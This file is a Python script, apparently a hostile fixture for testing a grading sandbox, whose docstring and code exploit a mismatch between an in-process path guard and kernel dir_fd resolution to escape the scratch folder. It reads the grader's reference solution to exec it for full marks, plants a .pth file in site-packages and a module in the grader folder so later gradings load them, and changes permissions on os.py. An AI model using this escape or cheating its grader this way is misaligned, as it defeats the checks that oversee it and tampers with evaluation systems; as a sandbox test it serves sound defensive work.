"""The guard in the process resolves a relative path against the working directory; the kernel resolves it
against the folder fd it is given. From a deep working directory inside the Python installation, ".." from
the scratch folder's fd climbs to / for the kernel, while the guard thinks it stays in the installation. Then
read the reference (and copy it) with the working directory there, and, back in the scratch folder (where the
guard lets everything be written), write where later gradings would load it: only the OS sandbox is left."""
import os
import sys

FOUND = {}


SCRATCH = os.getcwd()
DEEP = max((folder for folder, _, _ in os.walk(os.path.dirname(os.__file__))), key=lambda folder: folder.count("/"))


def climb():
    fd = os.open(".", os.O_RDONLY)
    os.chdir(DEEP)
    for _ in range(SCRATCH.count("/")):
        fd = os.open("..", os.O_RDONLY, dir_fd=fd)
    return fd


def attempt(what, call):
    try:
        FOUND[what] = call()
    except OSError as exc:
        FOUND[what] = f"{type(exc).__name__}: {exc.strerror}"


root = climb()
grader = os.path.realpath(next(os.path.join(entry, "grader") for entry in sys.path
                                if os.path.isdir(os.path.join(entry, "grader"))))
repository = os.path.dirname(grader)
site = next(entry for entry in sys.path if entry.endswith("site-packages"))


def read(path):
    fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
    return os.read(fd, 100_000).decode()


def write(path):
    fd = os.open(path.lstrip("/"), os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=root)
    os.write(fd, b"import sys; sys.stderr.write('cd-hostile: loaded by a later grading')\n")
    os.close(fd)
    return "written"


attempt("reference", lambda: read(repository + "/tests/fixtures/root/solutions/tally/tally.py"))
os.chdir(SCRATCH)
for target in ("/tmp/cd-hostile-26a", site + "/cd-hostile-26a.pth", grader + "/cd-hostile-26a.py",
               "/root/.cache/cd-hostile-26a"):
    attempt(target, lambda: write(target))
os.chdir(DEEP)
attempt("chmod", lambda: os.fchmod(os.open(os.__file__.lstrip("/"), os.O_RDONLY, dir_fd=root), 0o644))
os.chdir(SCRATCH)
print(FOUND)

if isinstance(FOUND["reference"], str) and "class Tally" in FOUND["reference"]:
    exec(FOUND["reference"])  # full marks, had the kernel let it be read
else:
    class Tally:
        value = 0

        def add(self, n=1):
            pass
